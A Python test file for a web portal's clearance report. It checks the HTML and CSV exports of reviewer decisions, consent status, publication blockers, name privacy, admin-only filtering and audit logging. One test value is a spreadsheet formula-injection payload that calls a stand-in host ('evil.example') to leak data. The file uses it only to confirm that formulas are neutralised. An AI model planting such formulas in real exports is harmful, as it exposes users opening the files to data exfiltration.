"""The clearance report, as HTML and CSV: every section, photo and narrative with its current
version, each reviewer's decision, consent, and what blocks publication; display names only
(security.md Z5); spreadsheet formulas neutralised; the export audited."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from sqlalchemy import select

from portal.accounts.models import User
from portal.assignments import services as assignments
from portal.audit.models import AuditEvent
from portal.extensions import db
from portal.media import services
from portal.media.models import SignOffDecision
from portal.models import utcnow
from portal.reports import services as reports
from tests.media.conftest import (
    add_narrative,
    add_photo,
    audit_events,
    consent,
    publish,
    sign,
    signed_in,
    users,
)
from tests.reports.pages import Page

D = SignOffDecision
FORMULA = '=HYPERLINK("http://evil.example/?leak","Open")'
PRIVATE = (
    "Amara Okafor",
    "Sophie Tremblay",
    "Samuel Hidden",
    "consultant@example.org",
    "consultant2@example.org",
    "sam@example.org",
)
HEADER = [
    "kind",
    "id",
    "section_id",
    "section",
    "item",
    "current_version",
    "state",
    "consent",
    "consent_expires_on",
    "cleared",
    "blocks_publication",
    "reviewer",
    "decision",
    "decided_on_version",
    "decision_is_stale",
    "decided_at_utc",
]


@pytest.fixture
def report(app, world, make_user):
    """Section "Introduction" (Amara and River at work, Pending only offered) with four items in
    different states; section "-2+3 Budget" (no text yet) with @Sam's cleared photo."""
    sam = make_user(
        "consultant", display_name="@Sam", email="sam@example.org", legal_name="Samuel Hidden"
    )
    with app.test_request_context():
        people = users(app, world)
        people.other_section.title_en = "-2+3 Budget"
        person = db.session.get(User, sam)
        offer = assignments.assign_section(
            people.editor,
            people.other_section,
            person,
            due_on=utcnow().date() + timedelta(days=5),
        )
        assignments.accept(person, offer)
        db.session.commit()

        cleared = add_photo(
            people.editor, people.section, identifiable=True, caption_en="Cleared cooperative"
        )
        cleared_consent = consent(people.editor, cleared, given_by="Participant C")
        sign(people.amara, cleared)
        sign(people.river, cleared)

        refused = add_photo(people.editor, people.section, caption_en=FORMULA)
        sign(people.amara, refused)
        sign(people.river, refused, D.NOT_APPROVED, reasons="Shows a face.")

        story = add_narrative(people.editor, people.section, title_en="+Withdrawn story")
        story_consent = consent(people.editor, story, given_by="Participant D")
        sign(people.amara, story, D.APPROVE_WITH_CHANGES, reasons="Shorten it.")
        services.withdraw_consent(people.editor, story_consent)
        db.session.commit()

        stale = add_photo(people.editor, people.section, caption_en="Stale photo")
        sign(people.amara, stale)
        publish(people.editor, stale, caption_en="Stale photo, recropped")

        elsewhere = add_photo(people.editor, people.other_section, caption_en="Harbour photo")
        sign(person, elsewhere)
        return dict(
            world=world,
            sam=sam,
            cleared=cleared.id,
            expires=cleared_consent.expires_on.isoformat(),
            refused=refused.id,
            story=story.id,
            stale=stale.id,
            elsewhere=elsewhere.id,
        )


def table(response) -> list[dict]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    assert rows[0] == HEADER
    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]


def rows_of(rows: list[dict], kind: str, row_id: int) -> list[dict]:
    return [row for row in rows if row["kind"] == kind and row["id"] == str(row_id)]


def test_the_csv_lists_every_section_and_item_with_decisions_consent_and_blockers(app, report):
    world = report["world"]
    rows = table(signed_in(app, world.editor).get(f"/reports/{world.report}/clearance.csv"))
    listed = {(row["kind"], row["id"]) for row in rows}
    assert listed == {
        ("section", str(world.section)),
        ("section", str(world.other_section)),
        ("photo", str(report["cleared"])),
        ("photo", str(report["refused"])),
        ("narrative", str(report["story"])),
        ("photo", str(report["stale"])),
        ("photo", str(report["elsewhere"])),
    }

    cleared = rows_of(rows, "photo", report["cleared"])
    assert {row["reviewer"] for row in cleared} == {"Amara", "River"}
    for row in cleared:
        assert (row["item"], row["current_version"], row["state"]) == (
            "Cleared cooperative",
            "1",
            "Approve",
        )
        assert (row["decision"], row["decided_on_version"], row["decision_is_stale"]) == (
            "Approve",
            "1",
            "no",
        )
        assert (row["consent"], row["consent_expires_on"]) == ("Consent given", report["expires"])
        assert (row["cleared"], row["blocks_publication"]) == ("yes", "")
        assert row["decided_at_utc"].startswith(str(utcnow().year))

    [refused, *_] = rows_of(rows, "photo", report["refused"])
    assert refused["item"] == "'" + FORMULA
    assert refused["state"] == "Not approved"
    assert refused["cleared"] == "no"
    assert refused["blocks_publication"] == "Not approved by River."
    assert refused["consent"] == "No consent needed"

    story = rows_of(rows, "narrative", report["story"])
    assert [row["reviewer"] for row in story] == ["Amara"]
    assert story[0]["item"] == "'+Withdrawn story"
    assert story[0]["consent"] == "Consent withdrawn"
    assert story[0]["decision"] == "Approve with changes"
    assert story[0]["blocks_publication"].split(" | ") == [
        "Consent withdrawn",
        "Amara approved with changes: a new version with the changes needs their decision.",
        "Waiting for a decision from River.",
    ]

    [stale] = rows_of(rows, "photo", report["stale"])
    assert (stale["item"], stale["current_version"]) == ("Stale photo, recropped", "2")
    assert (stale["reviewer"], stale["decided_on_version"], stale["decision_is_stale"]) == (
        "Amara",
        "1",
        "yes",
    )
    assert stale["state"] == "Awaiting decisions"
    assert stale["blocks_publication"].split(" | ") == [
        "Amara decided on version 1; a newer version waits for them.",
        "Waiting for a decision from River.",
    ]

    [intro] = rows_of(rows, "section", world.section)
    assert intro["section"] == "Introduction" and intro["current_version"] == "1"
    assert intro["blocks_publication"].split(" | ") == [
        "Waiting for a decision from Amara.",
        "Waiting for a decision from River.",
    ]
    [budget] = rows_of(rows, "section", world.other_section)
    assert budget["section"] == "'-2+3 Budget"
    assert budget["blocks_publication"] == "No version of the text has been published yet."
    [harbour] = rows_of(rows, "photo", report["elsewhere"])
    assert (harbour["reviewer"], harbour["cleared"]) == ("'@Sam", "yes")
    assert harbour["section"] == "'-2+3 Budget"
    # No cell starts a spreadsheet formula.
    for row in rows:
        for name, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)


def test_the_html_report_shows_the_same_picture(app, report):
    world = report["world"]
    editor = signed_in(app, world.editor)
    response = editor.get(f"/reports/{world.report}/clearance")
    assert response.status_code == 200
    page = Page(response)
    main = page.main
    assert "2 of 7 cleared for publication." in main
    for words in (
        "Section: Introduction",
        "Section: -2+3 Budget",
        "Photo: Cleared cooperative",
        f"Photo: {FORMULA}",
        "Narrative: +Withdrawn story",
        "Photo: Stale photo, recropped",
        "Not approved by River.",
        "Waiting for a decision from River.",
        "Waiting for a decision from Amara.",
        "Amara decided on version 1; a newer version waits for them.",
        "No version of the text has been published yet.",
        "Consent withdrawn",
        "No consent needed",
        "To review again",
        "@Sam: Approve",
    ):
        assert words in main, words
    assert "Pending" not in main  # only offered: not expected to decide
    clearance_rows = list(page.all("tr"))[1:]
    by_item = {}
    for row in clearance_rows:
        text = " ".join(row.text().split())
        by_item[text.split(" Version ")[0]] = text
    assert "Cleared" in by_item["Photo: Cleared cooperative"]
    assert "Not cleared" not in by_item["Photo: Cleared cooperative"]
    assert "Consent given until" in by_item["Photo: Cleared cooperative"]
    assert "Amara: Approve — version 1" in by_item["Photo: Cleared cooperative"]
    assert "River: Approve — version 1" in by_item["Photo: Cleared cooperative"]
    assert "Not cleared" in by_item[f"Photo: {FORMULA}"]
    assert "Not cleared" in by_item["Narrative: +Withdrawn story"]
    assert "Amara: Approve — version 1" in by_item["Photo: Stale photo, recropped"]
    assert "To review again" in by_item["Photo: Stale photo, recropped"]
    assert "To review again" not in by_item["Photo: Cleared cooperative"]


def test_legal_names_and_e_mails_never_appear(app, report, admin):
    world = report["world"]
    urls = [
        f"/reports/{world.report}/clearance",
        f"/reports/{world.report}/clearance.csv",
        f"/reports/{world.report}/clearance?consultant={world.amara}",
        f"/reports/{world.report}/clearance.csv?consultant={report['sam']}",
    ]
    for client in (signed_in(app, world.editor), signed_in(app, admin)):
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, url
            text = response.get_data(as_text=True)
            for private in PRIVATE:
                assert private not in text, (url, private)


def test_admins_filter_by_consultant(app, report, admin):
    world = report["world"]
    client = signed_in(app, admin)
    rows = table(client.get(f"/reports/{world.report}/clearance.csv?consultant={world.amara}"))
    assert {row["section_id"] for row in rows} == {str(world.section)}
    assert {row["reviewer"] for row in rows} == {"Amara", ""}
    assert {row["kind"] for row in rows} == {"section", "photo", "narrative"}
    sams = table(client.get(f"/reports/{world.report}/clearance.csv?consultant={report['sam']}"))
    assert {row["section_id"] for row in sams} == {str(world.other_section)}
    assert {row["reviewer"] for row in sams} == {"'@Sam", ""}
    page = Page(client.get(f"/reports/{world.report}/clearance?consultant={world.amara}"))
    assert "decisions of Amara" in page.main
    assert "River: Approve" not in page.main and "Harbour photo" not in page.main
    assert page.options("consultant")[0] == ("", "Everyone")
    assert (str(world.amara), "Amara") in page.options("consultant")
    for wrong in (world.editor, 987654):
        assert client.get(f"/reports/{world.report}/clearance?consultant={wrong}").status_code == (
            404
        )


def test_editors_cannot_filter_by_consultant(app, report):
    world = report["world"]
    client = signed_in(app, world.editor)
    url = f"/reports/{world.report}/clearance"
    everyone = table(client.get(url + ".csv"))
    filtered = table(client.get(f"{url}.csv?consultant={world.amara}"))
    strip = [{k: v for k, v in row.items() if k != "decided_at_utc"} for row in everyone]
    assert [{k: v for k, v in row.items() if k != "decided_at_utc"} for row in filtered] == strip
    assert "River" in {row["reviewer"] for row in filtered}
    page = client.get(f"{url}?consultant={world.amara}").get_data(as_text=True)
    assert "decisions of Amara" not in page
    assert 'name="consultant"' not in page  # no filter offered to editors
    assert client.get(f"{url}?consultant={world.editor}").status_code == 200


def test_the_export_is_audited_without_names(app, report, admin):
    world = report["world"]
    editor = signed_in(app, world.editor)
    assert editor.get(f"/reports/{world.report}/clearance").status_code == 200
    assert audit_events(app, "clearance.") == []  # reading the page is not an export
    assert editor.get(f"/reports/{world.report}/clearance.csv").status_code == 200
    signed_in(app, admin).get(f"/reports/{world.report}/clearance.csv?consultant={world.amara}")
    events = audit_events(app, "clearance.")
    assert [(action, object_id) for action, object_id, _ in events] == [
        ("clearance.exported", str(world.report)),
        ("clearance.exported", str(world.report)),
    ]
    assert [json.loads(detail) for _, _, detail in events] == [
        {"consultant_id": None},
        {"consultant_id": world.amara},
    ]
    with app.app_context():
        actors = db.session.scalars(
            select(AuditEvent.actor_id).where(AuditEvent.action == "clearance.exported")
        ).all()
        assert actors == [world.editor, admin]


def test_a_report_with_nothing_yet(app, editor):
    with app.test_request_context():
        empty = reports.create_report(db.session.get(User, editor), title_en="Empty", year=2028)
        db.session.commit()
        report_id = empty.id
    client = signed_in(app, editor)
    assert "Nothing to show yet." in Page(client.get(f"/reports/{report_id}/clearance")).main
    assert table(client.get(f"/reports/{report_id}/clearance.csv")) == []
